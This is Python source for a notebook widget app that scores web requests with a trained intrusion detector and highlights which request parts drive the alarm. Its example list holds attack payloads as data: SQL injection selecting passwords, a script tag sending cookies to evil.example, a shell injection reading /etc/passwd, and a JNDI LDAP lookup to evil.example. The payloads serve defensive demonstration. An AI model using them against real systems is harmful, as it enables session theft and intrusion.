"""The app: paste a request, see its score and where it comes from, and slide the budget of alarms."""

# ruff: noqa: E501

from __future__ import annotations

import html
from typing import Any

import ipywidgets as widgets
import numpy as np
from IPython.display import display

from gatewatch import budget, explain, model, rules, traffic, train
from kitlib import settings

EXAMPLES = {
    "a search": "GET /search?q=usb+cable+for+raspberry&sort=price",
    "SQL in a search": "GET /search?q=usb%27+union+select+name%2Cpassword+from+users--&sort=price",
    "SQL in a report (benign)": "POST /reports|title=stock&query=SELECT+name%2C+qty+FROM+stock+WHERE+qty+%3C+5&format=csv",
    "a script in a review": "POST /reviews|product=12&stars=5&comment=<script>fetch('//evil.example/'+document.cookie)</script>",
    "a shell in a ticket's subject": "POST /help/ticket|subject=x%3Bcat+%2Fetc%2Fpasswd&contact=a%40mail.example&order=12&config=baud+9600",
    "JNDI as a language": "GET /api/v1/orders?filter=price%3E10&lang=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D",
    "O'Brien checks out": "POST /checkout|name=Siobh%C3%A1n+O%27Brien&street=3%2C+rue+de+l%27Eau&phone=%28%2B352%29+123456&note=thanks!",
}


def page() -> Any:
    """The app's page; a sentence instead where no model has been trained yet."""
    file = settings.results() / train.WEIGHTS
    if not file.is_file():
        return widgets.HTML(
            "<p><b>There is no trained detector yet.</b> Run the notebooks first, in order: 03 keeps one.</p>"
        )
    detector, _ = model.load(file)
    benign = np.sort(model.score(detector, traffic.requests(4000, seed=7007)))

    choose = widgets.Dropdown(options=EXAMPLES, description="Example", layout={"width": "28rem"})
    text = widgets.Textarea(
        value=choose.value, description="Request", layout={"width": "98%", "height": "5.5rem"}, continuous_update=False
    )
    alarms = widgets.IntSlider(
        value=budget.ALARMS_PER_DAY,
        min=5,
        max=200,
        step=5,
        description="Alarms a day",
        layout={"width": "28rem"},
        style={"description_width": "6rem"},
        continuous_update=False,
    )
    told, where = widgets.HTML(), widgets.HTML()

    def look(_: Any = None) -> None:
        request = text.value.strip()
        if not request:
            told.value, where.value = "<p>Type a request, such as <code>GET /search?q=cable</code>.</p>", ""
            return
        found = explain.parts(request, lambda texts: model.score(detector, texts))
        value = float(model.score(detector, [request])[0])
        limit = budget.threshold(benign, budget.rate(alarms.value))
        told.value = verdict(value, limit, float(np.mean(benign < value)), rules.hits(request))
        where.value = coloured(found)

    def take(change: Any) -> None:
        text.value = change["new"]

    choose.observe(take, "value")
    text.observe(look, "value")
    alarms.observe(look, "value")
    look()
    return widgets.VBox([choose, text, alarms, told, where], layout={"max_width": "52rem"})


def verdict(value: float, limit: float, rank: float, signatures: list[str]) -> str:
    """What is told about one request, as HTML."""
    alarm = value > limit
    colour, word = ("#B23A00", "ALARM") if alarm else ("#00694C", "no alarm")
    signs = html.escape(", ".join(signatures)) or "none"
    return (
        f"<p style='font-size:1.25rem;margin:.3rem 0'><b style='color:{colour}'>{word}</b> "
        f"&nbsp; score {value:.2f}, threshold {limit:.2f}</p>"
        f"<p style='margin:.2rem 0'>Higher than {rank:.1%} of the shop's benign requests. Signature rules that match: {signs}.</p>"
    )


def coloured(found: list[tuple[str, float]]) -> str:
    """The request, with what raises its score on orange and what lowers it on blue, as HTML."""
    most = max([abs(added) for _, added in found] + [1e-6])

    def mark(piece: str, added: float) -> str:
        if abs(added) < 0.08 * most:
            return html.escape(piece)
        tint = "213,94,0" if added > 0 else "0,114,178"
        strength = 0.12 + 0.5 * abs(added) / most
        return f"<span title='{added:+.2f}' style='background:rgba({tint},{strength:.2f});border-radius:2px'>{html.escape(piece)}</span>"

    body = "".join(mark(piece, added) for piece, added in found)
    return (
        "<p style='margin:.4rem 0 .1rem'>What it comes from (orange raises the score, blue lowers it):</p>"
        f"<pre style='white-space:pre-wrap;overflow-wrap:anywhere;line-height:1.7;border:1px solid #bbb;padding:.6rem'>{body}</pre>"
    )


def show() -> None:
    """Show the page, in a notebook or in Voilà."""
    display(page())  # type: ignore[no-untyped-call]
